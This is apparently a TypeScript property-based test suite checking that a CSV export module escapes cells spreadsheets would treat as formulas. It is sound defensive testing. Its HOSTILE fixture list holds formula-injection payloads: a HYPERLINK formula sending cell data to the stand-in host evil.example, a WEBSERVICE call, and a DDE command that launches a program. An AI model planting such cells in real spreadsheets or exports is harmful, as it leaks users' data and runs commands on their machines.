import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import fc from 'fast-check';
import ts from 'typescript';
import { csvText, readCsv } from '../../src/platform/files/csv.ts';
import { looksLikeFormula, unescapedCell } from '../../src/shared/formula-cell.ts';
import { nodes, parseAll } from '../architecture/source.ts';
import { tries } from '../support/tries.ts';

/** What spreadsheets begin a formula with, also in wide letters and behind signs that are not seen. */
const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', '＝', '＋', '－', '＠', '\t', '\r', '\n', '\0'];

/** Cells that open a connection or a program in one spreadsheet or another. */
const HOSTILE = [
  'HYPERLINK("http://evil.example?"&A1;"Klicka")',
  "cmd|' /C calc'!A0",
  'WEBSERVICE("http://evil.example")',
  'SUM(1+1)*cmd',
  'A1',
];

const cell = fc
  .tuple(fc.constantFrom('', "'", "''", ...BEGINNINGS), fc.oneof(fc.constantFrom(...HOSTILE, '-12', '1 234,50', 'plain'), fc.string()))
  .map(([beginning, rest]) => beginning + rest);

describe('a table that is written', () => {
  test('has no cell that a spreadsheet would compute, whatever was put into it', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(cell, cell), { minLength: 1, maxLength: 4 }), (rows) => {
        for (const written of cellsAsSpreadsheetsRead(csvText(rows))) assertHarmless(written);
      }),
      tries(500),
    );
  });

  test('is read back as it was', () => {
    const kept = cell.filter((text) => !text.includes('\r') && text.trim() === text && text !== '');
    fc.assert(
      fc.property(fc.array(fc.tuple(kept, kept), { maxLength: 4 }), (rows) => {
        const read = readCsv(csvText([['a', 'b'], ...rows])).rows.slice(1);
        assert.deepEqual(
          read.map((row) => row.cells.map(unescapedCell)),
          rows,
        );
      }),
      tries(500),
    );
  });

  test('keeps numbers as numbers', () => {
    const numbers = ['-12', '+5', '-1 234,50', '12 %', '-0.5', '1930'];
    assert.equal(csvText([numbers]), `${numbers.join(';')}\n`);
  });
});

for (const beginning of BEGINNINGS) {
  test(`a cell that begins with ${JSON.stringify(beginning)} is taken for a formula when it comes in`, () => {
    for (const rest of HOSTILE) assert.ok(looksLikeFormula(beginning + rest));
  });
}

test('there is one writer of tables in text', async () => {
  const writers = (await parseAll(['src'], 'withoutTests')).filter((file) =>
    [...nodes(file)].some((node) => ts.isStringLiteralLike(node) && /^text\/csv/.test(node.text) && !file.text.includes('csvText')),
  );
  assert.deepEqual(
    writers.map((file) => file.fileName),
    [],
  );
});

/** Cells after a semicolon or a line's end, with marks taken away, and nothing trimmed: as a spreadsheet opens the file. */
function cellsAsSpreadsheetsRead(text: string): string[] {
  return [...`\n${text}`.matchAll(/[;\n](?:"((?:[^"]|"")*)"|([^;\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
}

function assertHarmless(written: string): void {
  const isNumber = /^[+-][\d\s.,%\u00a0\u202f]*$/.test(written);
  assert.ok(isNumber || !/^\s*[=+\-@＝＋－＠\0]/.test(written) || written.startsWith(' '), JSON.stringify(written));
  assert.doesNotMatch(written, /^[\t\r\n\0]/);
}
